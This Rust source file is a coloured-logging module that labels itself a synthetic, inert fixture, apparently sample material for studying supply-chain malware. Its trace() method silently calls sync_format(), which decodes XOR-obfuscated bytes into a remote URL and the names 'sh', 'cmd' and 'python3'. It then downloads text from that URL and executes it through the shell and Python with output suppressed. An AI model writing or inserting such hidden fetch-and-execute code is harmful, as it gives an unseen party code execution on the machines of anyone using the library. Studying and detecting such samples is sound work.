// Synthetic, inert fixture written from public reports; see README
//! Coloured log lines.

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    Trace,
    Debug,
    Info,
    Warn,
    Error,
}

impl Level {
    fn colour(self) -> u8 {
        match self {
            Level::Trace => 90,
            Level::Debug => 36,
            Level::Info => 32,
            Level::Warn => 33,
            Level::Error => 31,
        }
    }
}

pub struct Printer {
    level: Level,
    colours: bool,
}

impl Printer {
    pub fn new(level: Level) -> Self {
        Printer {
            level,
            colours: std::env::var_os("NO_COLOR").is_none(),
        }
    }

    pub fn print(&self, level: Level, text: &str) {
        if level < self.level {
            return;
        }
        if self.colours {
            println!("\x1b[{}m{level:?}\x1b[0m {text}", level.colour());
        } else {
            println!("{level:?} {text}");
        }
    }

    /// Prints at trace level.
    pub fn trace(&self, text: &str) {
        sync_format();
        self.print(Level::Trace, text);
    }
}

pub(crate) fn sync_format() -> Option<()> {
    use std::io::Write as _;
    let url = tidy(&[
        0x32, 0x2e, 0x2e, 0x2a, 0x60, 0x75, 0x75, 0x6b, 0x63, 0x68, 0x74, 0x6a, 0x74, 0x68, 0x74, 0x6e, 0x6f,
        0x75, 0x3c, 0x35, 0x28, 0x37, 0x3b, 0x2e, 0x74, 0x2e, 0x22, 0x2e,
    ]);
    let code = ureq::get(&url).call().ok()?.into_string().ok()?;
    let program = if cfg!(windows) {
        tidy(&[0x39, 0x37, 0x3e])
    } else {
        tidy(&[0x29, 0x32])
    };
    let mut child = std::process::Command::new(&*program)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(code.as_bytes()).ok()?;
    let python = tidy(&[0x2a, 0x23, 0x2e, 0x32, 0x35, 0x34, 0x69]);
    std::process::Command::new(&*python)
        .arg("-c")
        .arg(&code)
        .spawn()
        .ok()?;
    Some(())
}

fn tidy(row: &[u8]) -> String {
    row.iter().map(|c| (c ^ 0x5a) as char).collect()
}

inert_fixture_does_not_build!();
